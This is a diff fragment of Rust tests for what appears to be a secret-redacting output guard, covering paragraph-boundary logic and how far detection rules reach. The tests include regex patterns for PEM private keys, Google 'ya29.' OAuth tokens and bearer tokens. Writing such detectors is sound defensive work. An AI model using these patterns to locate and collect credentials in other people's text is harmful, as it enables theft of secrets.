+    findings.dedup_by(|b, a| a.span == b.span && a.rule == b.rule && a.category == b.category);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn paragraph_start_prefers_blank_line_boundaries() {
+        let text = "intro line\n\nSecond para\nstill second\n  indented\nlast";
+        let target = text.len() - 2;
+        let p = paragraph_start(text, 0, target, 0);
+        assert_eq!(&text[p..p + 6], "Second");
+        // Without a paragraph start in range, the latest line start.
+        let floor = text.find("still").unwrap();
+        let p = paragraph_start(text, 0, target, floor);
+        assert_eq!(&text[p..], "last");
+    }
+
+    #[test]
+    fn output_stream_is_send() {
+        fn send<T: Send>() {}
+        send::<OutputStream>();
+    }
+}
+
+#[cfg(test)]
+mod reach_tests {
+    use super::*;
+
+    #[test]
+    fn default_rules_hold_back_little() {
+        let guard = Guard::new().unwrap();
+        let s = guard.output_stream(None);
+        // The private-key rules' 9 KB windows only hold text after their keyword.
+        eprintln!(
+            "hold {} left {} step {} rules {}",
+            s.hold, s.left, s.step, s.reach.fixed
+        );
+        assert!(
+            s.hold <= 4096,
+            "hold {} left {} step {}",
+            s.hold,
+            s.left,
+            s.step
+        );
+        assert!(starts_with_keyword(
+            r"-----BEGIN[ A-Z0-9]{0,40}PRIVATE KEY",
+            false,
+            &["-----BEGIN".into()]
+        ));
+        assert!(starts_with_keyword(
+            r"(?P<secret>\bya29\.[0-9A-Za-z_-]{30,1024})",
+            false,
+            &["ya29.".into()]
+        ));
+        assert!(starts_with_keyword(
+            r"(?i:\bbearer)[ \t]+x",
+            true,
+            &["bearer".into()]
+        ));
+        assert!(!starts_with_keyword(
+            r"(?:ab|token)x",
+            false,
+            &["token".into()]
+        ));
+        assert!(!starts_with_keyword(
+            r"[a-z]{0,40}token",
+            false,
+            &["token".into()]
+        ));
+    }
+}
